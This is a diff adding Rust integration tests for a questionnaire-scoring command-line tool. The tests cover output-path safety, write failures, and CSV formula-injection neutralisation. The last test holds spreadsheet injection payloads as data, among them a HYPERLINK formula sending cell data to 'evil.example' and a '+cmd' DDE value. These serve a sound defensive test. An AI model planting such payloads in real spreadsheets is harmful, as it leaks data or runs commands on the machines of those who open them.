@@ -1,0 +1,284 @@
+//! Hostile and unlucky situations, each as it was found: what the tool must do instead. One
+//! section per kind of finding: where output may go, what reaches a terminal or a spreadsheet,
+//! inputs that are not plain files, sizes that must stay linear, figures that are undefined.
+
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+use assert_cmd::Command;
+
+const ANSWERS: &str = "examples/answers/telecom-driven.toml";
+
+fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+fn centricity(dir: &Path, args: &[&str]) -> Output {
+    Command::cargo_bin("centricity")
+        .expect("binary")
+        .current_dir(dir)
+        .env("NO_COLOR", "1")
+        .args(args)
+        .output()
+        .expect("runs")
+}
+
+fn stderr(out: &Output) -> String {
+    String::from_utf8_lossy(&out.stderr).into_owned()
+}
+
+fn stdout(out: &Output) -> String {
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+/// A folder holding a copy of the example answer file as `x.toml`.
+fn workdir() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().expect("temp dir");
+    std::fs::copy(root().join(ANSWERS), dir.path().join("x.toml")).expect("copy");
+    dir
+}
+
+// --- Where output may go -------------------------------------------------------------------
+
+#[cfg(unix)]
+#[test]
+fn output_never_replaces_a_device_a_pipe_or_a_folder_even_with_force() {
+    let dir = workdir();
+    let fifo = dir.path().join("fifo");
+    assert!(
+        std::process::Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .expect("mkfifo")
+            .success()
+    );
+    std::fs::create_dir(dir.path().join("folder")).expect("mkdir");
+    for (target, kind) in [
+        ("/dev/null", "is a device"),
+        ("fifo", "is a named pipe"),
+        ("folder", "is a folder"),
+    ] {
+        let out = centricity(
+            dir.path(),
+            &["score", "x.toml", "--output", target, "--force"],
+        );
+        assert_eq!(out.status.code(), Some(2), "{target}: {}", stderr(&out));
+        assert!(stderr(&out).contains(kind), "{target}: {}", stderr(&out));
+    }
+    assert!(
+        std::fs::symlink_metadata(&fifo)
+            .expect("fifo kept")
+            .file_type()
+            .is_fifo_like()
+    );
+}
+
+trait FifoLike {
+    fn is_fifo_like(&self) -> bool;
+}
+
+#[cfg(unix)]
+impl FifoLike for std::fs::FileType {
+    fn is_fifo_like(&self) -> bool {
+        std::os::unix::fs::FileTypeExt::is_fifo(self)
+    }
+}
+
+#[test]
+fn output_that_is_an_input_is_refused_under_any_name() {
+    let dir = workdir();
+    let before = std::fs::read(dir.path().join("x.toml")).expect("read");
+    let out = centricity(
+        dir.path(),
+        &["score", "x.toml", "--output", "x.toml", "--force"],
+    );
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("x.toml is also an input"),
+        "{}",
+        stderr(&out)
+    );
+    #[cfg(unix)]
+    {
+        std::os::unix::fs::symlink("x.toml", dir.path().join("alias.toml")).expect("link");
+        let out = centricity(
+            dir.path(),
+            &["score", "x.toml", "--output", "alias.toml", "--force"],
+        );
+        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+        std::fs::hard_link(dir.path().join("x.toml"), dir.path().join("hard.toml")).expect("link");
+        let out = centricity(
+            dir.path(),
+            &["score", "x.toml", "--output", "hard.toml", "--force"],
+        );
+        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    }
+    // An answer file inside a folder that is scored is an input too.
+    std::fs::create_dir(dir.path().join("d")).expect("mkdir");
+    std::fs::copy(dir.path().join("x.toml"), dir.path().join("d/y.toml")).expect("copy");
+    let out = centricity(
+        dir.path(),
+        &["score", "d", "--output", "d/y.toml", "--force"],
+    );
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert_eq!(
+        std::fs::read(dir.path().join("x.toml")).expect("read"),
+        before
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn a_link_as_output_counts_as_existing_and_is_replaced_by_an_ordinary_file() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = workdir();
+    std::os::unix::fs::symlink("elsewhere.json", dir.path().join("out.json")).expect("link");
+    let out = centricity(dir.path(), &["score", "x.toml", "--output", "out.json"]);
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("already exists (a symbolic link)"),
+        "{}",
+        stderr(&out)
+    );
+    let out = centricity(
+        dir.path(),
+        &["score", "x.toml", "--output", "out.json", "--force"],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let meta = std::fs::symlink_metadata(dir.path().join("out.json")).expect("meta");
+    assert!(meta.is_file(), "the link itself was replaced");
+    assert_eq!(meta.permissions().mode() & 0o002, 0, "not world-writable");
+    assert!(
+        !dir.path().join("elsewhere.json").exists(),
+        "nothing written through the link"
+    );
+}
+
+// --- Writes that fail ----------------------------------------------------------------------
+
+#[cfg(target_os = "linux")]
+#[test]
+fn a_full_disk_or_a_closed_pipe_is_an_error_naming_standard_output_never_a_panic() {
+    let dir = workdir();
+    for args in [
+        &["completions", "bash"][..],
+        &["man"],
+        &["score", "x.toml"],
+        &["score", "x.toml", "--format", "json"],
+        &["questionnaires"],
+        &["schema", "questionnaire"],
+        &["--help"],
+    ] {
+        let full = std::fs::File::create("/dev/full").expect("/dev/full");
+        let out = std::process::Command::new(env!("CARGO_BIN_EXE_centricity"))
+            .current_dir(dir.path())
+            .args(args)
+            .stdout(full)
+            .output()
+            .expect("runs");
+        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
+        if args[0] != "--help" {
+            assert!(
+                stderr(&out).contains("cannot write standard output"),
+                "{args:?}: {}",
+                stderr(&out)
+            );
+        }
+        assert!(
+            !stderr(&out).contains("panicked"),
+            "{args:?}: {}",
+            stderr(&out)
+        );
+    }
+    // A reader that goes away is not an error.
+    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_centricity"))
+        .args(["completions", "bash"])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .expect("runs");
+    drop(child.stdout.take());
+    let out = child.wait_with_output().expect("waits");
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
+}
+
+// --- What reaches a spreadsheet ------------------------------------------------------------
+
+/// The example answer file with its respondent and team replaced.
+fn answers_as(dir: &Path, file: &str, respondent: &str, team: &str) {
+    let text = std::fs::read_to_string(root().join(ANSWERS)).expect("read");
+    let text = text
+        .replace(
+            "respondent = \"VoC lead\"",
+            &format!("respondent = {}", toml_string(respondent)),
+        )
+        .replace(
+            "team = \"Consumer\"",
+            &format!("team = {}", toml_string(team)),
+        );
+    std::fs::write(dir.join(file), text).expect("write");
+}
+
+fn toml_string(s: &str) -> String {
+    toml::Value::String(s.to_owned()).to_string()
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
+    let dir = tempfile::tempdir().expect("temp dir");
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
+    answers_as(dir.path(), "a.toml", evil, "+cmd|' /C calc'!A0");
+    answers_as(dir.path(), "b.toml", "@SUM(1+1)", "-2+3");
+    answers_as(dir.path(), "c.toml", "\tTAB", "=1+1");
+    let out = centricity(
+        dir.path(),
+        &["score", "a.toml", "b.toml", "c.toml", "--format", "csv"],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let cells: Vec<&str> = rows.iter().flat_map(|r| [&r[0], &r[3]]).collect();
+    assert_eq!(
+        cells,
+        [
+            format!("'{evil}").as_str(),
+            "'+cmd|' /C calc'!A0",
+            "'@SUM(1+1)",
+            "'-2+3",
+            "'\tTAB",
+            "'=1+1"
+        ]
+    );
+    // Scores stay numbers.
+    let index = reader
+        .headers()
+        .expect("header")
+        .iter()
+        .position(|h| h == "index")
+        .expect("index column");
+    assert_eq!(&rows[0][index], "2.73");
+
+    let out = centricity(
+        dir.path(),
+        &[
+            "summarize",
+            "a.toml",
+            "b.toml",
+            "c.toml",
+            "--by",
+            "team",
+            "--format",
+            "csv",
+        ],
+    );
+    let text = stdout(&out);
+    assert!(text.contains("\n'=1+1,1,"), "{text}");
+    assert!(text.contains("\n'-2+3,1,"), "{text}");
+    assert!(
+        !text.contains("\n=") && !text.contains("\n+") && !text.contains("\n@"),
+        "{text}"
+    );
+}
